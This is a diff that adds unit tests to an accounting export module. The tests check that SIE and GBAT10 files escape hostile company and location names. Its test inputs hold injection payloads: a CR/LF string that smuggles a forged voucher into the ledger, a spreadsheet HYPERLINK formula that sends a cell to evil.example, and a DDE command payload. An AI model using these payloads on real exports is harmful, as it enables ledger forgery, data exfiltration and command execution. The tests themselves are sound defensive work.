@@ -210,6 +210,68 @@ describe('the export', () => {
     expect(lines.map((l) => Math.round(Number(l.split(';')[8]) * 100)).reduce((a, b) => a + b, 0)).toBe(0);
   });
 
+  it('keeps a name with CR/LF, quotes and backslashes inside its SIE field: read back, exactly the vouchers written', () => {
+    const forged =
+      '\r\n}\r\n#VER "A" 99 20260101 "forged"\r\n{\r\n   #TRANS 1930 {} 100000.00\r\n   #TRANS 3001 {} -100000.00\r\n}';
+    const attack = {
+      ...header,
+      companyName: 'Evil "AB"\n#FNAMN "Other" \\',
+      locationName: `Bistro "Åre"\\${forged}\u001b\u0085 end`,
+    };
+    const text = sieFile(attack, byDay, settings);
+    const lines = text.split('\r\n');
+    expect(lines.filter((l) => l.startsWith('#VER'))).toHaveLength(byDay.length);
+    expect(text).not.toMatch(/[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f]|\r(?!\n)|(?<!\r)\n/);
+    const file = readSie(encodeCp437(text));
+    expect(file.records.get('#FNAMN')).toEqual([['Evil "AB" #FNAMN "Other" \\']]);
+    const name = attack.locationName.replaceAll(/[\u0000-\u001f\u007f-\u009f]/g, ' ');
+    expect(file.vouchers.map((v) => [v.series, v.number, v.text])).toEqual(
+      byDay.map((v, i) => ['A', String(i + 1), `${name} ${v.date}`]),
+    );
+    expect(file.vouchers.map((v) => v.trans.length)).toEqual(byDay.map((v) => v.postings.length));
+    expect(file.vouchers.map((v) => v.trans.reduce((sum, t) => sum + t.amount, 0))).toEqual(byDay.map(() => 0));
+    expect([...file.records.keys()].sort()).toEqual(
+      ['#FLAGGA', '#FNAMN', '#FORMAT', '#GEN', '#KONTO', '#PROGRAM', '#SIETYP'].sort(),
+    );
+  });
+
+  it.each(['=', '+', '-', '@', '\t', '\r'])(
+    'writes a GBAT10 text cell starting with %j as quoted text with a leading quote, the amounts as numbers',
+    (trigger) => {
+      const locationName = `${trigger}HYPERLINK("https://evil.example/?d="&A1;"Open")`;
+      const split = { ...settings, splitByCostCenter: true };
+      const vouchers = [
+        voucherOf(
+          month.after,
+          summarize(sumCounters(days(month.purchases.filter((p) => p.localDate === month.after))), true),
+          split,
+        ),
+      ];
+      vouchers[0]!.postings[0]!.costCenter = { code: `${trigger}cmd|' /C calc'!A0`, name: 'x' };
+      const lines = gbat10File({ ...header, locationName }, vouchers).split('\r\n');
+      expect(lines.pop()).toBe('');
+      expect(lines).toHaveLength(vouchers[0]!.postings.length);
+      const unquoted = (cell: string) => {
+        expect(cell).toMatch(/^"'.*"$/);
+        return cell.slice(2, -1).replaceAll('""', '"');
+      };
+      const text = (s: string) => s.replaceAll(';', ',').replaceAll(/[\t\r]/g, ' ');
+      for (const line of lines) {
+        const cols = line.split(';');
+        expect(cols).toHaveLength(29);
+        expect(unquoted(cols[20]!)).toBe(text(`${locationName} ${month.after}`));
+        expect(cols[8]).toMatch(/^-?\d+\.\d{2}$/);
+      }
+      expect(unquoted(lines[0]!.split(';')[23]!)).toBe(text(`${trigger}cmd|' /C calc'!A0`));
+      expect(lines.some((l) => l.split(';')[8]!.startsWith('-'))).toBe(true);
+    },
+  );
+
+  it('leaves a GBAT10 text cell that starts with none of them as it is', () => {
+    const [line] = gbat10File({ ...header, locationName: 'Bistro 1-2' }, byDay).split('\r\n');
+    expect(line!.split(';')[20]).toBe(`Bistro 1-2 ${byDay[0]!.date}`);
+  });
+
   it('encodes code page 437 both ways (å ä ö Å Ä Ö é), a character it lacks as ?', () => {
     expect([...encodeCp437('åäöÅÄÖé€')]).toEqual([0x86, 0x84, 0x94, 0x8f, 0x8e, 0x99, 0x82, 0x3f]);
     const all = Buffer.from(Array.from({ length: 256 }, (_, i) => i));
